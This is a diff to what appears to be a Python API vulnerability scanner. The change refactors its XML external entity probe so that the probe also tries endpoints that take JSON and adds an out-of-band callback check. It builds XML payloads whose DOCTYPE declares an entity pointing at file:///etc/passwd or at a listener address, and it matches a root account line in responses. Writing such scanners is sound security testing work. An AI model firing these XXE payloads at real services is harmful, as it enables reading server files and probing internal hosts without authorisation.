@@ -11,16 +11,16 @@ import re
 import secrets
 import threading
 import time
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field, replace
 from typing import ClassVar
 from urllib.parse import urlsplit
 
-from harness.probes.api_inputs import MARK
-from harness.probes.api_request import Hole, RawXml
+from harness.probes.api_inputs import JSON, MARK
+from harness.probes.api_request import Hole, RawXml, RequestDraft, succeeded
 from harness.probes.api_sites import TextPlace
-from harness.probes.api_world import World
+from harness.probes.api_world import Described, World
 from harness.probes.exchange import Exchange
 
 _ACCOUNTS_FILE = re.compile(r"root:[^:\n]{0,200}:0:0:")
@@ -107,24 +107,37 @@ def files_read(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
 
 def _entities(world: World) -> Iterator[Hole]:
     """XML whose document type declares an entity that is a file."""
-    for described in world.operations:
-        body = described.inputs.body
-        if body is None or not body.media_type.endswith("xml") or described.operation.method == "GET":
-            continue
-        draft = world.draft(described, world.asker)
-        if draft is None:
-            continue
-        plain = draft.arguments()["content"].decode()
-        name = str(body.schema.get("xml", {}).get("name", "root"))
-        inner = re.sub(r"^<root>|</root>$", "", plain)
-        inner = re.sub(r">[^<]+<", ">&hx;<", inner)
-        text = (
-            f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY hx SYSTEM "file:///etc/passwd">]><{name}>{inner}</{name}>'
-        )
-        seen = world.client.tried(world.asker, replace(draft, body=RawXml(text)))
+    for described, send in _documents(world):
+        seen = send("file:///etc/passwd")
         if seen is not None and (found := _ACCOUNTS_FILE.search(seen.text)):
             says = f"reads the file that an entity of the XML names: it gives {found[0]!r}"
             yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))
+
+
+def _documents(world: World) -> Iterator[tuple[Described, Callable[[str], Exchange | None]]]:
+    """Operations that take XML, described or not, and what sends them a document with an entity from an address."""
+    for described in world.operations:
+        body = described.inputs.body
+        if body is None or described.operation.method == "GET" or described.is_disruptive:
+            continue
+        draft = world.draft(described, world.asker)
+        is_described = body.media_type.endswith("xml")
+        if draft is None or not (is_described or body.media_type == JSON):
+            continue
+        xml = replace(draft, media_type=body.media_type if is_described else "application/xml")
+        if not is_described:
+            plain = world.client.tried(world.asker, xml)
+            if plain is None or not succeeded(plain):
+                continue
+        name = str(body.schema.get("xml", {}).get("name", "root"))
+        inner = re.sub(r"^<root>|</root>$", "", xml.arguments()["content"].decode())
+        with_entity = re.sub(r">[^<]+<", ">&hx;<", inner) if "<" in inner else "&hx;"
+
+        def send(address: str, xml: RequestDraft = xml, name: str = name, inner: str = with_entity) -> Exchange | None:
+            text = f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY hx SYSTEM "{address}">]><{name}>{inner}</{name}>'
+            return world.client.tried(world.asker, replace(xml, body=RawXml(text)))
+
+        yield described, send
 
 
 def requests_elsewhere(world: World, places: Iterable[TextPlace], listener: Listener) -> Iterator[Hole]:
@@ -142,6 +155,16 @@ def requests_elsewhere(world: World, places: Iterable[TextPlace], listener: List
                 break
     if sent:
         listener.waits_for(f"{MARK}nobody", min(_LATE_S, 0.5))
+    for described, send in _documents(world):
+        address, word = listener.address()
+        seen = send(address)
+        if seen is None or not listener.waits_for(word, 0.3):
+            continue
+        file = send("file:///etc/passwd")
+        if file is None or not _ACCOUNTS_FILE.search(file.text):
+            # where files are read too, that is the finding
+            says = "asks the address that an entity of the XML names: a listener of ours was asked"
+            yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))
     for word, site, seen in sent:
         key = (site.operation.name, str(site.place))
         if key not in found and listener.waits_for(word, 0.0):
